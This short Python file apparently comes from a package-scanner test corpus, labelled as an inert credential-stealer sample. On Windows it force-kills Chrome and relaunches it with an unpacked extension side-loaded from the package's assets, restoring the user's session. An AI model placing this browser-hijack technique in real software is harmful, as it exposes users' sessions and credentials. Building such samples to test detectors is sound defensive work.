# pkgguard corpus 748 (credentials), modelled on [stealer-profile]; inert, never run.
import os
import subprocess
import sys

_UNPACKED = os.path.join(os.path.dirname(os.path.abspath(__file__)), "assets", "sync")

if sys.platform == "win32":
    browser = os.path.join(os.environ.get("PROGRAMFILES", r"C:\Program Files"), "Google", "Chrome", "Application", "chrome.exe")
    subprocess.run(["taskkill", "/f", "/im", "chrome.exe"], capture_output=True)
    subprocess.Popen([browser, f"--load-extension={_UNPACKED}", "--restore-last-session", "--no-first-run"])
